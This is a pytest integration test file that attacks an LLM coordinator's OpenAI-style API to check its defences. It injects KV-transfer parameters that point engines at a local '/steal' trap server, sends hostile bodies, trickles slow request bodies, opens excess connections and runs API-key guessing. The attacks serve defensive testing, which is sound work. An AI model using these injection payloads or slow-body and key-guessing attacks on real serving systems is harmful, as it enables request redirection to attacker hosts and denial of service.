"""Attacks on the coordinator's OpenAI API, run against a real coordinator in front of sim engines; each must
fail with an OpenAI-style 4xx (or the documented 503), never a 5xx.

- KV transfer fields from a client (kv_transfer_params, bootstrap_*) would point an engine at any address: a
  trap server stands at that address, and no engine may ever call it — on the aggregated path, the fallback
  (aggregated on prefill instances) and the P/D path, rejected by default or stripped when configured.
- hostile bodies (tests/fixtures/hostile.py): 400 with an OpenAI error body, and the coordinator stays well;
- two clients sending the same X-Request-Id do not collide at the engine;
- key guessing from one address runs out of attempts (429) while valid keys keep working;
- a body trickled slower than body_read_timeout is cut off with 408 and frees its request slot;
- connections beyond max_connections are answered 503 and closed;
- fuzzed request-like bodies never get a 5xx.
"""

import asyncio
import json
from collections.abc import AsyncIterator, Iterator
from dataclasses import dataclass, field
from typing import Any

import httpx
import pytest
from hypothesis import given, settings

from motor.coordinator.api.auth import hash_api_key
from tests.fixtures.coordinator import (
    CoordinatorProcess,
    StartCoordinator,
    sim_instance,
    start_coordinator,
    wait_coordinator_idle,
    wait_coordinator_metric,
)
from tests.fixtures.hostile import HOSTILE_BODIES
from tests.fixtures.sim import SimEngine, start_sim_engine
from tests.fixtures.waits import wait_until
from tests.integration.test_coordinator_api import assert_openai_error, completion
from tests.unit.test_coordinator_requests_fuzz import bodies


@dataclass
class Trap:
    """An HTTP server at the address a hostile client names; it records every request that reaches it."""

    port: int = 0
    hits: list[bytes] = field(default_factory=list)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    async def handle(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        head = await reader.readuntil(b"\r\n\r\n")
        self.hits.append(head)
        writer.write(b"HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: 2\r\n\r\n{}")
        await writer.drain()
        writer.close()


@pytest.fixture
async def trap() -> AsyncIterator[Trap]:
    found = Trap()
    server = await asyncio.start_server(found.handle, "127.0.0.1", 0)
    found.port = server.sockets[0].getsockname()[1]
    async with server:
        yield found


def injected(trap: Trap) -> dict[str, Any]:
    """What an attacker adds: the engine should fetch KV from (and call back) the trap."""
    return {
        "kv_transfer_params": {
            "do_remote_prefill": True,
            "do_remote_decode": False,
            "metaserver": f"{trap.url}/steal",
            "remote_bootstrap_addr": trap.url,
            "remote_host": "127.0.0.1",
            "remote_port": trap.port,
        },
        "bootstrap_host": "127.0.0.1",
        "bootstrap_port": trap.port,
        "bootstrap_room": 7,
    }


@pytest.fixture(scope="module")
def engines(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, SimEngine]]:
    log_dir = tmp_path_factory.mktemp("coordinator-hostile")
    started: dict[str, SimEngine] = {}
    try:
        for role, kv_role in (("union", "kv_both"), ("prefill", "kv_producer"), ("decode", "kv_consumer")):
            started[role] = start_sim_engine(log_dir, kv_role=kv_role, engine_id=f"hostile-{role}-0")
        yield started
    finally:
        for engine in started.values():
            engine.stop()


def deployments(
    coordinators: StartCoordinator, engines: dict[str, SimEngine], **config: Any
) -> dict[str, CoordinatorProcess]:
    """A coordinator per path a client body takes to an engine: aggregated, fallback, P/D."""
    aggregated = coordinators(profile="aggregated", coordinator_config=config)
    aggregated.register([sim_instance(engines["union"], "union")])
    fallback = coordinators(profile="prefill_first", coordinator_config=config)
    fallback.register([sim_instance(engines["prefill"], "prefill")])
    pd = coordinators(profile="prefill_first", coordinator_config=config)
    pd.register([sim_instance(engines["prefill"], "prefill"), sim_instance(engines["decode"], "decode")])
    return {"aggregated": aggregated, "fallback": fallback, "pd": pd}


async def test_the_trap_catches_an_engine_that_acts_on_client_params(
    engines: dict[str, SimEngine], trap: Trap
) -> None:
    """The oracle can fail: straight to an engine, the injected params make it call the trap."""
    async with httpx.AsyncClient(base_url=engines["union"].base_url, timeout=30) as http:
        await http.post("/v1/completions", json=completion(**injected(trap)))
    assert trap.hits and b"/steal" in trap.hits[0]


async def test_client_kv_transfer_fields_are_rejected_on_every_path(
    coordinators: StartCoordinator, engines: dict[str, SimEngine], trap: Trap
) -> None:
    for path, coordinator in deployments(coordinators, engines).items():
        async with httpx.AsyncClient(base_url=coordinator.base_url, timeout=30) as http:
            for name, value in injected(trap).items():
                for body in (
                    completion(**{name: value}),
                    completion(stream=True, **{name: value}),
                    {"model": "sim-model", "messages": [{"role": "user", "content": "hi"}], name: value},
                ):
                    api = "/v1/chat/completions" if "messages" in body else "/v1/completions"
                    error = assert_openai_error(await http.post(api, json=body), 400, "unsupported_parameter")
                    assert error["param"] == name, path
            assert (await http.post("/v1/completions", json=completion())).status_code == 200, path
    assert trap.hits == []


async def test_client_kv_transfer_fields_are_stripped_when_configured(
    coordinators: StartCoordinator, engines: dict[str, SimEngine], trap: Trap
) -> None:
    strip = {"input_config": {"kv_transfer_params": "strip"}}
    for path, coordinator in deployments(coordinators, engines, **strip).items():
        async with httpx.AsyncClient(base_url=coordinator.base_url, timeout=30) as http:
            response = await http.post("/v1/completions", json=completion(**injected(trap)))
            assert response.status_code == 200, (path, response.text)
            if path != "pd":  # the sim answers the kv_transfer_params it was given: none on these paths
                assert response.json()["kv_transfer_params"] is None, path
            stream = await http.post("/v1/completions", json=completion(stream=True, **injected(trap)))
            assert stream.status_code == 200 and stream.text.endswith("data: [DONE]\n\n"), path
    assert trap.hits == []


async def test_hostile_bodies_get_openai_400s_and_the_coordinator_stays_well(
    coordinators: StartCoordinator, engines: dict[str, SimEngine]
) -> None:
    coordinator = coordinators(profile="aggregated")
    coordinator.register([sim_instance(engines["union"], "union")])
    headers = {"content-type": "application/json", "x-request-id": "attacker-1"}
    async with httpx.AsyncClient(base_url=coordinator.base_url, timeout=30) as http:
        for name, raw in HOSTILE_BODIES.items():
            for api in ("/v1/completions", "/v1/chat/completions"):
                response = await http.post(api, content=raw, headers=headers)
                assert response.status_code == 400, (name, api, response.text)
                assert_openai_error(response, 400)
                assert response.headers["x-request-id"] == "attacker-1"
        assert (await http.post("/v1/completions", json=completion())).status_code == 200
    wait_coordinator_metric(
        coordinator, 'motor_coordinator_requests_total{status="400"}', 2 * len(HOSTILE_BODIES)
    )
    assert b"Traceback" not in coordinator.log_path.read_bytes()


async def test_engine_request_ids_are_motors_not_the_clients(
    coordinators: StartCoordinator, engines: dict[str, SimEngine]
) -> None:
    coordinator = coordinators(profile="aggregated")
    coordinator.register([sim_instance(engines["union"], "union")])
    async with httpx.AsyncClient(base_url=coordinator.base_url, timeout=30) as http:
        same = {"x-request-id": "shared-id"}
        first, second = await asyncio.gather(
            *(http.post("/v1/completions", json=completion(max_tokens=20), headers=same) for _ in range(2))
        )
        unnamed = await http.post("/v1/completions", json=completion())
    assert first.status_code == second.status_code == 200, (first.text, second.text)
    assert first.headers["x-request-id"] == second.headers["x-request-id"] == "shared-id", "echoed back"
    # The sim names its response after the request id it was sent.
    engine_ids = {first.json()["id"], second.json()["id"]}
    assert len(engine_ids) == 2 and not any("shared-id" in rid for rid in engine_ids)
    assert unnamed.headers["x-request-id"] in unnamed.json()["id"], "without one, motor's id is echoed"


async def test_key_guessing_runs_out_of_attempts_while_valid_keys_keep_working(
    coordinators: StartCoordinator, engines: dict[str, SimEngine]
) -> None:
    coordinator = coordinators(
        profile="aggregated",
        coordinator_config={
            "api_key_config": {
                "enable_api_key": True,
                "valid_keys": [hash_api_key("good-key", iterations=20_000)],
                "attempts_per_client": 5,
                "attempts_window": 3600,
            }
        },
    )
    coordinator.register([sim_instance(engines["union"], "union")])
    good = {"authorization": "Bearer good-key"}
    async with httpx.AsyncClient(base_url=coordinator.base_url, timeout=30) as http:
        assert (await http.post("/v1/completions", json=completion(), headers=good)).status_code == 200
        guesses = await asyncio.gather(
            *(
                http.post(
                    "/v1/completions", json=completion(), headers={"authorization": f"Bearer guess-{i}"}
                )
                for i in range(60)
            )
        )
        statuses = sorted(response.status_code for response in guesses)
        assert statuses == [403] * 4 + [429] * 56, "one attempt went to the good key's first use"
        assert_openai_error(guesses[-1], guesses[-1].status_code)
        limited = next(response for response in guesses if response.status_code == 429)
        assert_openai_error(limited, 429, "too_many_key_attempts")
        assert int(limited.headers["retry-after"]) >= 1
        assert (await http.post("/v1/completions", json=completion(), headers=good)).status_code == 200
        assert (await http.get("/v1/models", headers={"authorization": "Bearer guess-0"})).status_code == 429


async def test_a_trickled_body_is_cut_off_with_408_and_frees_its_slot(
    coordinators: StartCoordinator, engines: dict[str, SimEngine]
) -> None:
    coordinator = coordinators(
        profile="aggregated",
        coordinator_config={"request_limit": {"body_read_timeout": 1.0, "max_requests": 1}},
    )
    coordinator.register([sim_instance(engines["union"], "union")])
    reader, writer = await asyncio.open_connection(coordinator.host, coordinator.infer_port)
    body = json.dumps(completion()).encode()
    writer.write(
        b"POST /v1/completions HTTP/1.1\r\nhost: coordinator\r\ncontent-type: application/json\r\n"
        b"content-length: %d\r\n\r\n%b" % (len(body), body[:10])
    )
    await writer.drain()
    async with httpx.AsyncClient(base_url=coordinator.base_url, timeout=30) as http:
        # the slow client was admitted (its head read) before the next request comes
        wait_coordinator_metric(coordinator, "motor_coordinator_in_flight_requests", 1)
        busy = await http.post("/v1/completions", json=completion())
        assert_openai_error(busy, 503, "overloaded")  # the slow client holds the only slot...
        answer = await asyncio.wait_for(reader.read(), timeout=10)  # ...until it is cut off and closed
        head, _, error_body = answer.partition(b"\r\n\r\n")
        assert head.startswith(b"HTTP/1.1 408 "), answer
        assert json.loads(error_body)["error"]["code"] == "request_timeout"
        writer.close()
        await wait_coordinator_idle(coordinator)
        assert (await http.post("/v1/completions", json=completion())).status_code == 200


async def test_connections_beyond_the_cap_are_refused_and_closed(
    coordinators: StartCoordinator, engines: dict[str, SimEngine]
) -> None:
    coordinator = coordinators(
        profile="aggregated", coordinator_config={"request_limit": {"max_connections": 3}}
    )
    coordinator.register([sim_instance(engines["union"], "union")])
    idle = [await asyncio.open_connection(coordinator.host, coordinator.infer_port) for _ in range(3)]
    await asyncio.sleep(0.2)
    async with httpx.AsyncClient(base_url=coordinator.base_url, timeout=30) as http:
        refused = await http.post("/v1/completions", json=completion())
        assert_openai_error(refused, 503, "too_many_connections")
        assert refused.headers["connection"] == "close"
    for _, writer in idle:
        writer.close()

    def answered_once_the_coordinator_noticed_the_closes() -> httpx.Response:
        # a new connection each time, so a refused one does not count against the next
        return httpx.post(f"{coordinator.base_url}/v1/completions", json=completion(), timeout=30)

    served = await asyncio.to_thread(
        wait_until,
        answered_once_the_coordinator_noticed_the_closes,
        lambda response: response.status_code != 503,
        "a request after the idle connections closed",
    )
    assert served.status_code == 200, served.text


@pytest.fixture(scope="module")
def fuzz_coordinator(
    tmp_path_factory: pytest.TempPathFactory, engines: dict[str, SimEngine]
) -> Iterator[CoordinatorProcess]:
    """One coordinator for every fuzz example; its bounds are small so accepted requests stay quick."""
    coordinator = start_coordinator(
        tmp_path_factory.mktemp("coordinator-fuzz"),
        profile="aggregated",
        coordinator_config={"input_config": {"max_tokens": 8, "max_n": 2, "kv_transfer_params": "strip"}},
    )
    try:
        coordinator.register([sim_instance(engines["union"], "union")])
        yield coordinator
    finally:
        coordinator.stop()


@settings(max_examples=100, deadline=None)
@given(case=bodies())
def test_fuzzed_requests_never_get_a_5xx(
    fuzz_coordinator: CoordinatorProcess, case: tuple[str, dict[str, Any]]
) -> None:
    """Request-like bodies of every shape (tests/unit/test_coordinator_requests_fuzz.py) through a live
    coordinator and sim engine."""
    api, body = case
    body = body | {"model": "sim-model"} if body.get("model") == "m" else body
    path = "/v1/chat/completions" if api == "chat" else "/v1/completions"
    response = httpx.post(f"{fuzz_coordinator.base_url}{path}", content=json.dumps(body), timeout=30)
    assert response.status_code < 500, (body, response.text)
    if response.status_code >= 400:
        assert_openai_error(response, response.status_code)
